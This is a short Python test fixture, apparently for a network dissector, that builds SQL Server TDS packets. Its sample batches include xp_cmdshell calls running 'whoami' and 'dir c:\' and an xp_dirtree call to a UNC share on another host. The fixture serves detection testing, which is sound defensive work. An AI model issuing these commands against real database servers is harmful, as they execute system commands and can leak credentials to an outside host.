"""TDS batches: an ordinary query, xp_cmdshell in two letter cases, a UNC path of another host, and a response of the
server that contains a procedure name.
"""

from __future__ import annotations

import struct

from pcaps.dissectors._frames import DESKTOP, GATEWAY, Frames, conversation

HEADERS = struct.pack("<IIHQI", 22, 18, 2, 0, 1)  # one header: no transaction, one request


def batch(text: str, kind: int = 1) -> bytes:
    body = HEADERS + text.encode("utf-16-le")
    return struct.pack("!BBHHBB", kind, 1, 8 + len(body), 0, 1, 0) + body


def frames() -> Frames:
    yield from conversation(
        (DESKTOP, "10.20.30.14", 49500),
        (GATEWAY, "10.20.30.1", 1433),
        [
            (True, batch("SELECT name FROM sys.databases")),
            (False, batch("xp_cmdshell", 4)),
            (True, batch("EXEC master..xp_cmdshell 'whoami'")),
            (True, batch("exec XP_CMDSHELL 'dir c:\\'")),
            (True, batch("EXEC xp_dirtree '\\\\10.20.30.66\\share'", 3)),
        ],
    )
